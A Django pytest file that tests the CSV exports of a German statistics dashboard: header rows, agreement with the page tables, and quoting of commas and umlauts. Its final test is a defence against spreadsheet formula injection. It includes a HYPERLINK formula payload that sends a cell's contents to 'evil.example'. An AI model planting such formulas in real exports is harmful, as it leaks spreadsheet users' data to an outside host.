"""Every cockpit figure's CSV export: German header row, and the same rows as the figure's table
(both the computed figure and the table on the cockpit page)."""

import csv
import datetime as dt
import io
from html.parser import HTMLParser

import pytest
from django.utils import timezone

from office.stats import FIGURES, DateRange, figure_by_slug

pytestmark = pytest.mark.django_db
URL = "/geschaeftsstelle/statistik/"

# The header row a user opening the CSV sees (German is the site's language).
HEADERS = {
    "wachstum": [
        "Monat",
        "Anbieter neu",
        "Anbieter gesamt",
        "Lösungen neu",
        "Lösungen gesamt",
        "Referenzen neu",
        "Referenzen gesamt",
    ],
    "handlungsfelder": ["Handlungsfeld", "Lösungen"],
    "vorhaben": [
        "Monat",
        "Vorhaben",
        "Mit Treffer über der Schwelle",
        "Anteil in %",
        "Daraus Innovationspartnerschaft",
    ],
    "veranstaltungen": [
        "Workshop",
        "Bestätigt",
        "Teilgenommen",
        "Teilnahmequote in %",
        "Warteliste",
        "Abgesagt",
        "Rückmeldungen",
        "Plätze",
    ],
    "kommunen": ["Landkreis", "Kreisschlüssel", "Kommunen", "Erreicht", "Anteil in %"],
    "ohne-treffer": ["Suchbegriff", "Suchen"],
}


class _Tables(HTMLParser):
    """{section id: (header cells, body rows)} of the cockpit page's figure tables."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tables, self._section, self._row, self._cell = {}, None, None, None
        self._part = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "section" and "sr-figure" in (attrs.get("class") or ""):
            self._section = attrs["id"]
            self.tables[self._section] = ([], [])
        elif tag in ("thead", "tbody") and self._section:
            self._part = tag
        elif tag == "tr" and self._part:
            self._row = []
        elif tag in ("th", "td") and self._row is not None:
            self._cell = []

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)

    def handle_endtag(self, tag):
        if tag in ("th", "td") and self._cell is not None:
            self._row.append("".join(self._cell).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None:
            head, body = self.tables[self._section]
            (head if self._part == "thead" else body).append(self._row)
            self._row = None
        elif tag in ("thead", "tbody"):
            self._part = None
        elif tag == "section":
            self._section = None


def page_tables(html):
    parser = _Tables()
    parser.feed(html)
    return {slug: (head[0], body) for slug, (head, body) in parser.tables.items()}


@pytest.fixture
def cockpit_data(office_user, municipality_user, municipality_org, provider_org):
    """Something in every figure, with commas, quotes and umlauts in the text cells."""
    from accounts.tests.factories import MunicipalityFactory, MunicipalityOrgFactory, member_of
    from catalog.models import Reference, Topic
    from catalog.tests.factories import ProviderProfileFactory, SolutionFactory
    from events import services as events
    from events.tests.factories import WorkshopFactory
    from matching.models import Need
    from matching.searchlog import record_search

    profile = ProviderProfileFactory(organisation=provider_org)
    solution = SolutionFactory(
        provider=profile,
        title="Parkleitsystem mit Bodensensoren",
        topics=[Topic.objects.get(slug="mobilitaet"), Topic.objects.get(slug="wasser")],
    )
    Reference.objects.create(solution=solution, municipality=municipality_org.municipality)
    Need.objects.create(
        organisation=municipality_org,
        author=municipality_user,
        title="Parkleitsystem Innenstadt",
        description="Freie Parkplätze mit Bodensensoren anzeigen",
    )
    workshop = WorkshopFactory(title='Wasser, Forst und "Klima"', capacity=1)
    others = [member_of(MunicipalityOrgFactory()) for _ in range(2)]
    for person in [municipality_user, *others]:
        events.register(actor=person, workshop=workshop)  # 1 confirmed, 2 waiting
    MunicipalityFactory(ags="06611000", name="Kassel", district_ags="06611", district="Kassel")
    for _ in range(3):  # a term is listed once three visitors searched it
        record_search('Parken, "Altstadt"', 0)
    record_search("Glasfaser Ausbau", 0)
    today = timezone.localdate()
    return DateRange(today - dt.timedelta(days=40), today + dt.timedelta(days=30))


def test_every_figure_has_an_expected_header():
    assert set(HEADERS) == set(FIGURES)
    for slug, header in HEADERS.items():
        assert len(set(header)) == len(header), f"{slug}: two columns with the same name"


@pytest.mark.parametrize("slug", sorted(FIGURES))
def test_csv_export_equals_the_figure_table(client_for, office_user, cockpit_data, slug):
    period = cockpit_data
    query = f"?von={period.start.isoformat()}&bis={period.end.isoformat()}"
    client = client_for(office_user)
    response = client.get(f"{URL}{slug}.csv{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    filename = f"{slug}_{period.start.isoformat()}_{period.end.isoformat()}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert response.content.startswith("\ufeff".encode())  # UTF-8 for Excel by double-click
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")

    assert header == HEADERS[slug]
    assert len(set(header)) == len(header), "two columns with the same name"
    figure = figure_by_slug(slug, period)
    assert header == [str(c) for c in figure.columns]
    assert rows, f"{slug}: the test data should put something in every figure"
    assert rows == [[str(cell) for cell in row] for row in figure.rows]
    assert all(len(row) == len(header) for row in rows)

    page_header, page_rows = page_tables(client.get(URL + query).content.decode())[slug]
    assert page_header == header
    assert page_rows == rows


def test_text_cells_with_commas_and_quotes_survive_the_export(
    client_for, office_user, cockpit_data
):
    period = cockpit_data
    query = f"?von={period.start.isoformat()}&bis={period.end.isoformat()}"
    client = client_for(office_user)
    searches = client.get(f"{URL}ohne-treffer.csv{query}").content.decode("utf-8-sig")
    assert dict(read(searches)[1:])['Parken, "Altstadt"'] == "3"
    workshops = client.get(f"{URL}veranstaltungen.csv{query}").content.decode("utf-8-sig")
    (row,) = read(workshops)[1:]
    assert row[:2] == ['Wasser, Forst und "Klima"', "1"]
    assert row[4] == "2"  # waiting list


def read(text):
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_a_search_term_never_runs_as_a_formula_in_the_spreadsheet(client_for, office_user):
    """Anonymous visitors write the search terms: a term starting with = + - @ (or a tab) is
    written with a leading ' so Excel and LibreOffice show it instead of running it."""
    from matching.searchlog import record_search

    terms = ['=HYPERLINK("https://evil.example/?x="&A1;"Details")', "@SUMME(A1)", "-2+3"]
    for term in terms * 3:  # listed once three visitors searched it
        record_search(term, 0)
    today = timezone.localdate()
    query = f"?von={today.isoformat()}&bis={today.isoformat()}"
    response = client_for(office_user).get(f"{URL}ohne-treffer.csv{query}")
    cells = {row[0] for row in read(response.content.decode("utf-8-sig"))[1:]}
    assert cells == {"'" + term for term in terms}
